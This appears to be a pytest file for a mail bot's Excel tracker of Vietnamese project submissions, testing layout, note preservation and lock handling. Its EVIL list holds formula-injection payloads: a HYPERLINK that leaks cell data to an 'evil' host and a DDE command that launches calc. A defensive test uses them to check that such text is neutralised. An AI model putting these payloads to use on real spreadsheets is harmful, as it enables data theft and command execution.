"""The officer's tracking workbook: complete, never a formula from submitted text, notes kept, locks survived."""

from __future__ import annotations

import datetime as dt
import errno
import os
import zipfile
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook
from openpyxl.chart import BarChart
from openpyxl.worksheet.worksheet import Worksheet

from mailbot.adapters import xlsx_tracker
from mailbot.adapters.xlsx_tracker import XlsxTracker
from mailbot.model import Finding, MessageView, SubmissionView, Task, TrackerData, VersionFile
from mailbot.ports import TrackerWrite

UTC = dt.UTC
ORIENTATIONS = {
    1: "Truyền thông",
    2: "Mô hình sản xuất bền vững",
    3: "Định mức tiêu hao",
    4: "Sản xuất sạch hơn",
    5: "Hướng dẫn kỹ thuật",
    6: "Thu hồi, tái chế",
    7: "Phân phối xanh",
    8: "Chuỗi bền vững",
    9: "Xanh hóa",
    10: "Kinh tế tuần hoàn",
}
EVIL = ['=HYPERLINK("http://evil/?"&A1)', "+cmd|' /C calc'!A1", "@SUM(A1)", "-2+3", "\t=1+1"]


def task(stt: int = 1, **fields: Any) -> dict[str, Any]:
    values: dict[str, Any] = {
        "stt": stt,
        "ten_nhiem_vu": f"Nhiệm vụ {stt}",
        "dinh_huong": 3,
        "muc_tieu": "Giảm tiêu hao",
        "noi_dung": "- Khảo sát\n- Xây dựng định mức",
        "san_pham": "Bộ định mức",
        "don_vi_chu_tri": "Viện Năng lượng",
        "bat_dau": "2024-01",
        "ket_thuc": "2024-12",
        "kinh_phi_tong": 1500.0,
        "kinh_phi_nsnn": 1000.0,
        "kinh_phi_khac": 500.0,
        "loai": "II. Nhiệm vụ mở mới",
    }
    return Task(**(values | fields)).to_dict()


def submission(receipt: str = "SXTD-0001", **fields: Any) -> SubmissionView:
    values: dict[str, Any] = {
        "receipt": receipt,
        "organization": "Công ty Dệt may Hà Nội",
        "sender": "nguoigui@example.vn",
        "status": "accepted",
        "version": 1,
        "first_received_at": dt.datetime(2023, 4, 10, 1, 30, tzinfo=UTC),
        "last_received_at": dt.datetime(2023, 4, 12, 20, 15, tzinfo=UTC),
        "tasks": [task(1), task(2, dinh_huong=10, kinh_phi_tong=200.5, kinh_phi_nsnn=0.0, kinh_phi_khac=200.5)],
        "findings": [],
        "files": [],
    }
    return SubmissionView(**(values | fields))


def message(subject: str = "Đề xuất nhiệm vụ 2024", **fields: Any) -> MessageView:
    values: dict[str, Any] = {
        "message_id": "<a@example.vn>",
        "sender": "nguoigui@example.vn",
        "subject": subject,
        "received_at": dt.datetime(2023, 4, 10, 1, 30, tzinfo=UTC),
        "action": "acknowledged",
        "reason": None,
        "receipt": "SXTD-0001",
        "reply_state": "sent",
    }
    return MessageView(**(values | fields))


def tracker_data(
    submissions: list[SubmissionView] | None = None, messages: list[MessageView] | None = None
) -> TrackerData:
    return TrackerData(
        submissions=[submission()] if submissions is None else submissions,
        messages=[message()] if messages is None else messages,
        orientations=ORIENTATIONS,
        generated_at=dt.datetime(2023, 4, 30, 10, 0, tzinfo=UTC),
    )


def rows(ws: Worksheet) -> list[dict[str, Any]]:
    """The data rows under a header in row 1, as header → value."""
    values = list(ws.iter_rows(values_only=True))
    return [dict(zip(values[0], row, strict=True)) for row in values[1:] if any(v is not None for v in row)]


def headers(ws: Worksheet) -> list[Any]:
    return [c.value for c in ws[1]]


def cell_under(ws: Worksheet, header: str, row: int = 2) -> Any:
    return ws.cell(row, headers(ws).index(header) + 1)


def set_note(path: Path, receipt: str, note: str) -> None:
    """What the officer does: open the tracker, type a note beside a receipt, save."""
    wb = load_workbook(path)
    ws = wb["Hồ sơ"]
    receipt_col, note_col = headers(ws).index("Số tiếp nhận") + 1, headers(ws).index("Ghi chú của cán bộ") + 1
    row = next(r for r in range(2, ws.max_row + 1) if ws.cell(r, receipt_col).value == receipt)
    ws.cell(row, note_col).value = note
    wb.save(path)


@pytest.fixture
def path(tmp_path: Path) -> Path:
    return tmp_path / "tracker.xlsx"


def write(path: Path, data: TrackerData, **options: Any) -> TrackerWrite:
    return XlsxTracker(path, retry_delay=0, **options).write(data)


# ---------------------------------------------------------------- shape


def test_the_workbook_has_its_six_sheets_with_vietnamese_headers(path: Path) -> None:
    write(path, tracker_data())
    wb = load_workbook(path)
    assert wb.sheetnames == ["Hồ sơ", "Nhiệm vụ", "Tệp hồ sơ", "Nhật ký", "Thống kê", "Biểu đồ"]
    assert wb.active is not None and wb.active.title == "Hồ sơ"
    assert headers(wb["Hồ sơ"])[0] == "Số tiếp nhận" and headers(wb["Hồ sơ"])[-1] == "Ghi chú của cán bộ"
    assert "Tổng kinh phí (triệu đồng)" in headers(wb["Hồ sơ"])
    assert headers(wb["Nhiệm vụ"])[:4] == ["Số tiếp nhận", "Đơn vị", "STT", "Tên nhiệm vụ"]
    assert headers(wb["Nhật ký"]) == [
        "Thời gian",
        "Người gửi",
        "Tiêu đề",
        "Xử lý",
        "Lý do",
        "Lời nhắn",
        "Số tiếp nhận",
        "Thư trả lời",
    ]
    assert all(wb[name].freeze_panes in ("A2", "B2") for name in ("Hồ sơ", "Nhiệm vụ", "Nhật ký"))


def test_empty_data_still_gives_every_sheet_with_its_headers(path: Path) -> None:
    result = write(path, tracker_data([], []))
    wb = load_workbook(path)
    assert result == TrackerWrite(path, False)
    assert wb.sheetnames == ["Hồ sơ", "Nhiệm vụ", "Tệp hồ sơ", "Nhật ký", "Thống kê", "Biểu đồ"]
    assert rows(wb["Hồ sơ"]) == [] and rows(wb["Nhiệm vụ"]) == [] and rows(wb["Nhật ký"]) == []
    assert headers(wb["Nhật ký"])[0] == "Thời gian"


def test_there_is_one_row_per_submission_one_per_task_and_one_per_message(path: Path) -> None:
    submissions = [submission(f"SXTD-{i:04d}", tasks=[task(n) for n in range(1, i + 1)]) for i in range(1, 4)]
    messages = [message(f"Thư {i}") for i in range(5)]
    write(path, tracker_data(submissions, messages))
    wb = load_workbook(path)
    assert [r["Số tiếp nhận"] for r in rows(wb["Hồ sơ"])] == ["SXTD-0001", "SXTD-0002", "SXTD-0003"]
    assert len(rows(wb["Nhiệm vụ"])) == 1 + 2 + 3
    assert sorted(r["Tiêu đề"] for r in rows(wb["Nhật ký"])) == [f"Thư {i}" for i in range(5)]


def test_a_submission_row_sums_budgets_counts_errors_and_summarises_findings(path: Path) -> None:
    findings = [Finding(f"K{i}", "error" if i % 2 else "warning", f"Lỗi {i}").to_dict() for i in range(1, 8)]
    write(path, tracker_data([submission(findings=findings, version=3)]))
    row = rows(load_workbook(path)["Hồ sơ"])[0]
    assert row["Số nhiệm vụ"] == 2 and row["Số lần nộp"] == 3
    assert row["Tổng kinh phí (triệu đồng)"] == 1700.5 and row["Kinh phí NSNN (triệu đồng)"] == 1000
    assert row["Số lỗi"] == 4
    summary = row["Tóm tắt lỗi"].split("\n")
    assert summary[:5] == ["Lỗi: Lỗi 1", "Lỗi: Lỗi 3", "Lỗi: Lỗi 5", "Lỗi: Lỗi 7", "Lưu ý: Lỗi 2"]  # errors first
    assert summary[5] == "… và 2 mục khác"


def test_a_task_row_carries_the_orientation_name_and_months_as_mm_yyyy(path: Path) -> None:
    write(path, tracker_data([submission(tasks=[task(1, bat_dau="2024-03", ket_thuc="2024-11")])]))
    row = rows(load_workbook(path)["Nhiệm vụ"])[0]
    assert (row["Định hướng"], row["Tên định hướng"]) == (3, "Định mức tiêu hao")
    assert (row["Bắt đầu"], row["Kết thúc"]) == ("03/2024", "11/2024")
    money = (row["Tổng (triệu đồng)"], row["NSNN (triệu đồng)"], row["Nguồn khác (triệu đồng)"])
    assert money == (1500, 1000, 500)
    assert row["Nội dung chính"] == "- Khảo sát\n- Xây dựng định mức"


def test_statuses_actions_and_reply_states_are_shown_in_vietnamese_with_status_colours(path: Path) -> None:
    subs = [
        submission("A", status="accepted"),
        submission("B", status="needs_correction"),
        submission("C", status="accepted", late=True),
        submission("D", status="needs_correction", late=True),
    ]
    msgs = [message(action="correction_sent", reply_state="uncertain"), message(action="ignored", reply_state=None)]
    write(path, tracker_data(subs, msgs))
    wb = load_workbook(path)
    shown = [r["Trạng thái"] for r in rows(wb["Hồ sơ"])]
    assert shown == ["Đã tiếp nhận", "Cần chỉnh sửa", "Nộp muộn", "Nộp muộn – cần chỉnh sửa"]
    fills = {cell_under(wb["Hồ sơ"], "Trạng thái", r).fill.start_color.rgb for r in (2, 3, 4, 5)}
    assert len(fills) == 4
    assert {(r["Xử lý"], r["Thư trả lời"]) for r in rows(wb["Nhật ký"])} == {
        ("Đã yêu cầu chỉnh sửa", "Chưa chắc đã gửi"),
        ("Bỏ qua", None),
    }


def test_the_message_log_shows_the_newest_message_first(path: Path) -> None:
    times = [dt.datetime(2023, 4, d, tzinfo=UTC) for d in (3, 9, 1)]
    write(path, tracker_data(messages=[message(f"Thư {t.day}", received_at=t) for t in times]))
    assert [r["Tiêu đề"] for r in rows(load_workbook(path)["Nhật ký"])] == ["Thư 9", "Thư 3", "Thư 1"]


def test_dates_are_real_datetimes_in_viet_nam_time(path: Path) -> None:
    write(path, tracker_data())
    wb = load_workbook(path)
    first = cell_under(wb["Hồ sơ"], "Nhận lần đầu")
    assert first.value == dt.datetime(2023, 4, 10, 8, 30)  # 01:30 UTC
    assert cell_under(wb["Hồ sơ"], "Nhận lần cuối").value == dt.datetime(2023, 4, 13, 3, 15)  # next day in Ha Noi
    assert first.number_format == "dd/mm/yyyy hh:mm"
    assert cell_under(wb["Nhật ký"], "Thời gian").value == dt.datetime(2023, 4, 10, 8, 30)
    assert "Cập nhật lúc 30/04/2023 17:00" in wb["Thống kê"]["A1"].value


def test_money_cells_use_the_thousands_format(path: Path) -> None:
    write(path, tracker_data())
    assert cell_under(load_workbook(path)["Nhiệm vụ"], "Tổng (triệu đồng)").number_format == "#,##0.0"


def test_each_file_of_each_version_is_copied_beside_the_workbook_and_linked_on_a_row_of_its_own(
    path: Path, tmp_path: Path
) -> None:
    archive = tmp_path / "archive"
    archive.mkdir()
    (archive / "a.bin").write_bytes(b"one")
    (archive / "b.bin").write_bytes(b"two")
    when = dt.datetime(2023, 4, 12, 20, 15, tzinfo=UTC)
    files = [
        VersionFile("SXTD-0001", 2, when, "Phụ lục 1.xlsx", str(archive / "a.bin")),
        VersionFile("SXTD-0001", 2, when, "Phụ lục 1.xlsx", str(archive / "b.bin")),  # the same name twice
        VersionFile("SXTD-0001", 2, when, "gone.docx", str(archive / "missing.bin")),
    ]
    data = tracker_data([submission(version=2)])
    data.files = files
    write(path, data)
    wb = load_workbook(path)
    listed = [(r["Tệp"], r["Lần nộp"]) for r in rows(wb["Tệp hồ sơ"])]
    assert listed == [("Phụ lục 1.xlsx", 2), ("Phụ lục 1.xlsx", 2), ("gone.docx", 2)]
    targets = [wb["Tệp hồ sơ"].cell(r, 4).hyperlink for r in (2, 3, 4)]
    assert [t.target if t else None for t in targets] == [
        "ho-so/SXTD-0001/v2/Phụ%20lục%201.xlsx",
        "ho-so/SXTD-0001/v2/Phụ%20lục%201%20(2).xlsx",
        None,  # not in the archive: named, not linked
    ]
    folder = path.parent / "ho-so" / "SXTD-0001" / "v2"
    assert (folder / "Phụ lục 1.xlsx").read_bytes() == b"one" and (folder / "Phụ lục 1 (2).xlsx").read_bytes() == b"two"
    assert cell_under(wb["Hồ sơ"], "Tệp (lần nộp cuối)").hyperlink.target == "ho-so/SXTD-0001/v2/"


# ---------------------------------------------------------------- injection and bad text


@pytest.mark.parametrize("evil", EVIL)
def test_formula_like_submitted_text_is_stored_as_text(path: Path, evil: str) -> None:
    finding = Finding("K1", "error", evil).to_dict()
    sub = submission(organization=evil, sender=evil, tasks=[task(1, ten_nhiem_vu=evil)], findings=[finding])
    write(path, tracker_data([sub], [message(evil, sender=evil, note=evil)]))
    wb = load_workbook(path)
    cells = [
        cell_under(wb["Hồ sơ"], "Đơn vị"),
        cell_under(wb["Hồ sơ"], "Người gửi"),
        cell_under(wb["Nhiệm vụ"], "Tên nhiệm vụ"),
        cell_under(wb["Nhật ký"], "Tiêu đề"),
        cell_under(wb["Nhật ký"], "Lời nhắn"),
    ]
    assert [(c.data_type, c.value) for c in cells] == [("s", evil)] * len(cells)
    assert cell_under(wb["Hồ sơ"], "Tóm tắt lỗi").value == f"Lỗi: {evil}"
    assert all(c.quotePrefix for c in cells)  # Excel keeps it text even when the officer edits the cell
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/sheet")]
        assert sheets and not any(b"<f>" in archive.read(n) or b"<f " in archive.read(n) for n in sheets)


def test_control_characters_are_stripped_from_submitted_text(path: Path) -> None:
    write(path, tracker_data([submission(organization="Công\x00 ty\x07 A\x1b\x0b")], [message("Tiêu\x08 đề")]))
    wb = load_workbook(path)
    assert cell_under(wb["Hồ sơ"], "Đơn vị").value == "Công ty A"
    assert cell_under(wb["Nhật ký"], "Tiêu đề").value == "Tiêu đề"


def test_text_longer_than_an_excel_cell_is_truncated_with_a_mark(path: Path) -> None:
    write(path, tracker_data([submission(tasks=[task(1, noi_dung="ạ" * 40_000)])]))
    value = cell_under(load_workbook(path)["Nhiệm vụ"], "Nội dung chính").value
    assert len(value) == 32_767
    assert value.startswith("ạ" * 1000) and value.endswith("… [đã cắt bớt]")


# ---------------------------------------------------------------- the officer's notes


def test_a_note_typed_by_the_officer_survives_the_next_rebuild_with_changed_data(path: Path) -> None:
    write(path, tracker_data([submission("SXTD-0001"), submission("SXTD-0002")]))
    set_note(path, "SXTD-0002", "Đã gọi điện, chờ bản giấy")
    changed = [submission("SXTD-0000"), submission("SXTD-0001"), submission("SXTD-0002", late=True, version=2)]
    write(path, tracker_data(changed))
    by_receipt = {r["Số tiếp nhận"]: r for r in rows(load_workbook(path)["Hồ sơ"])}
    assert by_receipt["SXTD-0002"]["Ghi chú của cán bộ"] == "Đã gọi điện, chờ bản giấy"
    assert by_receipt["SXTD-0002"]["Số lần nộp"] == 2
    assert by_receipt["SXTD-0001"]["Ghi chú của cán bộ"] is None
    assert XlsxTracker(path).read_notes() == {"SXTD-0002": "Đã gọi điện, chờ bản giấy"}


def test_a_note_for_a_receipt_that_disappeared_is_kept_in_a_hidden_sheet(path: Path) -> None:
    write(path, tracker_data([submission("SXTD-0001"), submission("SXTD-0002")]))
    set_note(path, "SXTD-0001", "Trùng với SXTD-0002")
    write(path, tracker_data([submission("SXTD-0002")]))
    wb = load_workbook(path)
    assert wb["Ghi chú cũ"].sheet_state == "hidden"
    assert rows(wb["Ghi chú cũ"]) == [
        {"Số tiếp nhận": "SXTD-0001", "Quyết định": None, "Ghi chú của cán bộ": "Trùng với SXTD-0002"}
    ]
    write(path, tracker_data([submission("SXTD-0002")]))
    assert rows(load_workbook(path)["Ghi chú cũ"])[0]["Ghi chú của cán bộ"] == "Trùng với SXTD-0002"
    write(path, tracker_data([submission("SXTD-0001")]))  # the receipt is back: so is its note, in place
    wb = load_workbook(path)
    assert rows(wb["Hồ sơ"])[0]["Ghi chú của cán bộ"] == "Trùng với SXTD-0002"
    assert "Ghi chú cũ" not in wb.sheetnames


def test_a_formula_typed_as_a_note_comes_back_as_text(path: Path) -> None:
    write(path, tracker_data())
    set_note(path, "SXTD-0001", "=1+1")
    write(path, tracker_data())
    cell = cell_under(load_workbook(path)["Hồ sơ"], "Ghi chú của cán bộ")
    assert (cell.data_type, cell.value) == ("s", "=1+1")


def test_notes_are_empty_when_there_is_no_tracker_or_it_cannot_be_read(path: Path) -> None:
    assert XlsxTracker(path).read_notes() == {}
    path.write_bytes(b"not a workbook")
    assert XlsxTracker(path).read_notes() == {}


def test_an_unreadable_tracker_is_copied_aside_before_it_is_replaced(path: Path) -> None:
    path.write_bytes(b"the officer saved something odd here")
    write(path, tracker_data())
    assert (path.parent / "tracker.unreadable.xlsx").read_bytes() == b"the officer saved something odd here"
    assert load_workbook(path).sheetnames[0] == "Hồ sơ"


# ---------------------------------------------------------------- locks, crashes, leftovers


def lock(monkeypatch: pytest.MonkeyPatch, target: Path, times: int = 1_000, code: int = errno.EACCES) -> list[Path]:
    """Make os.replace onto `target` fail as Windows does while Excel holds the file; returns the attempts."""
    real_replace = os.replace
    attempts: list[Path] = []

    def replace(src: Any, dst: Any) -> None:
        if Path(dst) == target:
            attempts.append(Path(dst))
            if len(attempts) <= times:
                raise OSError(code, "The process cannot access the file", str(dst))
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", replace)
    return attempts


def test_a_locked_tracker_is_left_byte_identical_and_the_new_workbook_goes_to_a_pending_copy(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(path, tracker_data([submission("SXTD-0001")]))
    set_note(path, "SXTD-0001", "ghi chú")
    before = path.read_bytes()
    attempts = lock(monkeypatch, path)
    result = write(path, tracker_data([submission("SXTD-0001"), submission("SXTD-0002")]), retries=2)
    pending = path.parent / "tracker.pending.xlsx"
    assert result == TrackerWrite(pending, True)
    assert len(attempts) == 3  # the first try and two retries
    assert path.read_bytes() == before
    assert [r["Số tiếp nhận"] for r in rows(load_workbook(pending)["Hồ sơ"])] == ["SXTD-0001", "SXTD-0002"]
    assert rows(load_workbook(pending)["Hồ sơ"])[0]["Ghi chú của cán bộ"] == "ghi chú"
    assert sorted(p.name for p in path.parent.iterdir()) == ["tracker.pending.xlsx", "tracker.xlsx"]  # no temp left


def test_a_tracker_unlocked_within_the_retries_is_replaced_in_place(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(path, tracker_data([]))
    lock(monkeypatch, path, times=2)
    assert write(path, tracker_data(), retries=3) == TrackerWrite(path, False)
    assert len(rows(load_workbook(path)["Hồ sơ"])) == 1
    assert not (path.parent / "tracker.pending.xlsx").exists()


def test_a_busy_file_on_a_mounted_windows_share_counts_as_locked(path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    write(path, tracker_data([]))
    before = path.read_bytes()
    lock(monkeypatch, path, code=errno.EBUSY)
    assert write(path, tracker_data()).pending
    assert path.read_bytes() == before


def test_another_failure_to_swap_the_file_in_is_raised_not_taken_for_a_lock(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    lock(monkeypatch, path, code=errno.EIO)
    with pytest.raises(OSError, match="cannot access"):
        write(path, tracker_data())
    assert list(path.parent.iterdir()) == []


def test_once_the_lock_is_gone_the_tracker_is_written_and_the_stale_pending_copy_removed(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(path, tracker_data([]))
    with monkeypatch.context() as patch:
        lock(patch, path)
        assert write(path, tracker_data()).pending
    assert write(path, tracker_data()) == TrackerWrite(path, False)
    assert len(rows(load_workbook(path)["Hồ sơ"])) == 1
    assert not (path.parent / "tracker.pending.xlsx").exists()


def test_a_pending_copy_holding_a_note_the_tracker_lacks_is_not_deleted(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(path, tracker_data())
    with monkeypatch.context() as patch:
        lock(patch, path)
        pending = write(path, tracker_data()).path
    set_note(pending, "SXTD-0001", "gõ nhầm vào bản chờ")
    write(path, tracker_data())
    assert pending.exists()


def test_a_crash_while_building_leaves_the_old_tracker_and_no_temp_file(
    path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    write(path, tracker_data())
    before = path.read_bytes()

    def crash(*_: Any) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(xlsx_tracker, "save_synced", crash)
    with pytest.raises(OSError):
        write(path, tracker_data([]))
    assert path.read_bytes() == before
    assert [p.name for p in path.parent.iterdir()] == ["tracker.xlsx"]


def test_leftover_temp_files_from_a_crash_are_removed_and_excel_owner_files_left_alone(path: Path) -> None:
    folder = path.parent
    for name in (
        ".tracker.xlsx.123.tmp",
        ".tracker.pending.xlsx.9.tmp",
        "~$tracker.xlsx",
        ".other.xlsx.5.tmp",
        "a.tmp",
    ):
        (folder / name).write_bytes(b"x")
    write(path, tracker_data())
    assert sorted(p.name for p in folder.iterdir()) == [".other.xlsx.5.tmp", "a.tmp", "tracker.xlsx", "~$tracker.xlsx"]
    assert (folder / "~$tracker.xlsx").read_bytes() == b"x"


# ---------------------------------------------------------------- statistics and tables


def test_statistics_count_submissions_by_status_and_tasks_and_budget_by_orientation(path: Path) -> None:
    subs = [
        submission("A", status="accepted"),
        submission("B", status="accepted", tasks=[task(1, dinh_huong=1, kinh_phi_tong=10.0, kinh_phi_nsnn=4.0)]),
        submission("C", late=True, tasks=[task(1, dinh_huong=None, kinh_phi_tong=7.0, kinh_phi_nsnn=7.0)]),
    ]
    write(path, tracker_data(subs))
    ws = load_workbook(path)["Thống kê"]
    values = [[c for c in row if c is not None] for row in ws.iter_rows(values_only=True)]
    assert ["Đã tiếp nhận", 2] in values and ["Cần chỉnh sửa", 0] in values and ["Nộp muộn", 1] in values
    assert ["Tổng cộng", 3] in values
    by_code = {row[0]: row[1:] for row in values if row and isinstance(row[0], int)}
    assert sorted(by_code) == list(range(1, 11))
    assert by_code[3] == ["Định mức tiêu hao", 1, 1500, 1000]
    assert by_code[10] == ["Kinh tế tuần hoàn", 1, 200.5, 0]
    assert by_code[1] == ["Truyền thông", 1, 10, 4]
    assert by_code[5] == ["Hướng dẫn kỹ thuật", 0, 0, 0]
    assert ["Chưa xác định", 1, 7, 7] in values
    assert ["Tổng cộng", 4, 1717.5, 1011] in values
    [chart] = load_workbook(path)["Biểu đồ"]._charts
    assert isinstance(chart, BarChart) and len(chart.series) == 2  # total and NSNN budget by orientation


def test_every_sheet_is_an_excel_table_whose_filter_covers_the_data(path: Path) -> None:
    subs = [submission(f"S{i}") for i in range(4)]
    write(path, tracker_data(subs, [message(f"T{i}") for i in range(6)]))
    wb = load_workbook(path)
    expected = {"Hồ sơ": ("HoSo", "A1:Q5"), "Nhiệm vụ": ("NhiemVu", "A1:R9"), "Nhật ký": ("NhatKy", "A1:H7")}
    for sheet, (name, ref) in expected.items():
        table = wb[sheet].tables[name]
        assert (table.ref, table.autoFilter.ref) == (ref, ref)
    assert set(wb["Thống kê"].tables) == {"ThongKeTrangThai", "ThongKeDinhHuong"}


def test_an_empty_table_still_covers_one_row_under_its_header(path: Path) -> None:
    write(path, tracker_data([], []))
    assert load_workbook(path)["Hồ sơ"].tables["HoSo"].ref == "A1:Q2"  # Excel will not open a header-only table


def test_notes_of_a_workbook_from_before_the_receipt_was_called_so_tiep_nhan_are_kept(path: Path) -> None:
    from openpyxl import Workbook

    old = Workbook()
    ws = old.active
    assert ws is not None
    ws.title = "Hồ sơ"
    ws.append(["Số biên nhận", "Đơn vị", "Ghi chú của cán bộ"])
    ws.append(["SXTD-0001", "Công ty", "Ghi chú cũ vẫn còn"])
    old.save(path)
    write(path, tracker_data([submission("SXTD-0001")]))
    assert rows(load_workbook(path)["Hồ sơ"])[0]["Ghi chú của cán bộ"] == "Ghi chú cũ vẫn còn"
